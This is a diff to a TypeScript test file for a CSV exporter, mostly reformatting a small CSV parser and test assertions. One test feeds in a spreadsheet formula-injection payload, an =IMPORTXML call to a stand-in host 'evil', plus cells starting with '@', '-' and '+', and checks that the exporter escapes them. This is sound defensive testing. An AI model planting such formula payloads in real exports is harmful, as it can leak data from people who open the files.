@@ -12,12 +12,13 @@ function parseCsv(text: string): string[][] {
   for (let at = 0; at < text.length; at += 1) {
     const char = text[at]!;
     if (quoted) {
-      if (char === '"' && text[at + 1] === '"') (cell += '"'), (at += 1);
+      if (char === '"' && text[at + 1] === '"') ((cell += '"'), (at += 1));
       else if (char === '"') quoted = false;
       else cell += char;
     } else if (char === '"') quoted = true;
-    else if (char === ',') row.push(cell), (cell = '');
-    else if (char === '\r' && text[at + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), (at += 1);
+    else if (char === ',') (row.push(cell), (cell = ''));
+    else if (char === '\r' && text[at + 1] === '\n')
+      (row.push(cell), rows.push(row), (row = []), (cell = ''), (at += 1));
     else cell += char;
   }
   return rows;
@@ -57,7 +58,12 @@ describe('csvCell', () => {
 
 describe('csvText', () => {
   it('starts with a BOM and ends every line with CRLF', () => {
-    expect(csvText([['a', 'b'], ['c,d', 1]])).toBe('\uFEFFa,b\r\n"c,d",1\r\n');
+    expect(
+      csvText([
+        ['a', 'b'],
+        ['c,d', 1],
+      ]),
+    ).toBe('\uFEFFa,b\r\n"c,d",1\r\n');
   });
 });
 
@@ -101,13 +107,24 @@ describe('flagsCsv', () => {
   it('lists every researcher and neutralises hostile ad text', async () => {
     const hostile = flag({
       n: 9,
-      ad: { title: '=IMPORTXML("http://evil","//a")', seller: { name: '@admin', id: '-1' }, price: { amount: 0, currency: 'EUR' } },
+      ad: {
+        title: '=IMPORTXML("http://evil","//a")',
+        seller: { name: '@admin', id: '-1' },
+        price: { amount: 0, currency: 'EUR' },
+      },
       assessment: { notes: '+ call seller, "urgent"' },
       observations: [await observation({ n: 1, by: anna }), await observation({ n: 2, by: ben })],
     });
     const [header, row] = parseCsv(flagsCsv([hostile], 'b').slice(1));
     const cell = (name: string) => row![header!.indexOf(name)];
-    expect([cell('title'), cell('seller_name'), cell('seller_id'), cell('notes'), cell('price_amount'), cell('researchers')]).toEqual([
+    expect([
+      cell('title'),
+      cell('seller_name'),
+      cell('seller_id'),
+      cell('notes'),
+      cell('price_amount'),
+      cell('researchers'),
+    ]).toEqual([
       `'=IMPORTXML("http://evil","//a")`,
       "'@admin",
       "'-1",
